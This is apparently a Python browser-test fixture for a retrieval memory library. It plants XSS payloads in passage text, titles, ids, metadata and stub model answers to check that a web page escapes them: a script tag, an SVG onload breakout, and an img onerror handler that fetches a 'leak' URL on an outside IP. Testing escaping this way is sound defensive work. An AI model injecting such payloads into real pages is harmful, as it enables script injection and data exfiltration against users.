"""A memory that says something hostile everywhere a passage can say something, and readers that repeat it."""

from __future__ import annotations

from collections.abc import Mapping, Sequence

from hybridmem_plugins import HybridMemory, Passage

SCRIPT = "<script>window.planted = 1</script>"
IMAGE = "<img src=x onerror=\"window.planted = 2; fetch('http://192.0.2.1/leak')\">"
SVG = "</text></svg><svg onload='window.planted = 3'>"
QUESTION = "Who designed the Analytical Engine?"


def planted_memory() -> HybridMemory:
    memory = HybridMemory()
    memory.add(
        [
            Passage(
                f"Ada Lovelace {SCRIPT} wrote for the Analytical Engine. {IMAGE} It was designed by Charles Babbage.",
                title=f"Ada Lovelace {SVG}",
                id=f"ada{IMAGE}",
                metadata={"source": f"notes{SCRIPT}.md"},
            ),
            Passage(
                f"It was designed by Charles Babbage {IMAGE} and never finished.", title="Analytical Engine", id="e"
            ),
            Passage(f"Helium {SVG} was seen in the Analytical Engine's sun.", title=f"Helium {SCRIPT}", id="h"),
        ]
    )
    return memory


def tuned(messages: Sequence[Mapping[str, str]]) -> str:
    """Say the answer where it stands, and hostile markup with it."""
    return "Charles Babbage" if "Charles Babbage" in messages[-1]["content"] else f"Nobody {IMAGE}"


def base(messages: Sequence[Mapping[str, str]]) -> str:
    return f"{SCRIPT} Jupiter, Saturn, Uranus, Neptune, Mercury, Venus"


if __name__ == "__main__":  # the page over this memory, for the browser test
    import sys

    from hybridmem_plugins.page.app import run
    from hybridmem_plugins.page.desk import BASE, FINE_TUNED, Desk

    run(
        Desk(planted_memory(), lambda: {FINE_TUNED: tuned, BASE: base}),
        f"3 passages {IMAGE}",
        [QUESTION],
        "127.0.0.1",
        int(sys.argv[1]),
    )
